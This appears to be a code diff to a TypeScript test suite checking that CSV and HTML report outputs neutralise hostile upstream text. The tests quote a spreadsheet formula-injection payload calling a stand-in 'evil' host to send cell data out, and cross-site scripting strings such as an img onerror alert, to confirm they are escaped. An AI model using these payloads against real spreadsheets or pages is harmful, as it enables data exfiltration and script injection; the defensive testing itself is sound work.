@@ -79,13 +79,23 @@ async function withResult(): Promise<ReportJob> {
       complete: false,
       directory,
       targets: IndicatorTargets.none(),
+      sources: [
+        {
+          connector: '<b>evil</b>',
+          agencies: ['000.00.01.H56'],
+          pages: 1,
+          dossiers: 3,
+          firstReadAt: '2026-12-01T00:00:00.000Z',
+          lastReadAt: '2026-12-01T00:00:01.000Z',
+        },
+      ],
     }),
   };
 }
 
 describe('Report outputs with hostile upstream text', () => {
   it('CSV: a name a spreadsheet would run as a formula is neutralised and quoted', async () => {
-    const csv = reportCsv(await withResult(), directory);
+    const csv = reportCsv(await withResult());
     const agencyRow = csv.split('\r\n').find((line) => line.startsWith('AGENCY,')) as string;
     expect(agencyRow).toContain(`,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")`);
     const fieldRow = csv.split('\r\n').find((line) => line.startsWith('FIELD,')) as string;
@@ -93,7 +103,7 @@ describe('Report outputs with hostile upstream text', () => {
     // Total: 3 to resolve (3 online), 2 resolved (1 early, 1 late), 1 unresolved and overdue;
     // all 3 on a computed calendar (this test loads no official schedule).
     expect(csv.split('\r\n').at(-2)).toBe(
-      'TOTAL,total,,,Tổng cộng,3,3,0,0,2,1,0,1,1,0,1,0,0,0,0,0,0,0,0,3,0,0',
+      'TOTAL,total,,,Tổng cộng,3,3,0,0,2,1,0,1,1,0,1,0,0,0,0,0,0,0,0,3,0,0,0',
     );
   });
 
@@ -102,6 +112,8 @@ describe('Report outputs with hostile upstream text', () => {
     expect(html).not.toContain('<script>alert');
     expect(html).not.toContain('<img src=x');
     expect(html).toContain('&lt;img src=x onerror=alert(2)&gt;');
+    expect(html).not.toContain('<b>evil</b>');
+    expect(html).toContain('&lt;b&gt;evil&lt;/b&gt;');
     expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
   });
 });
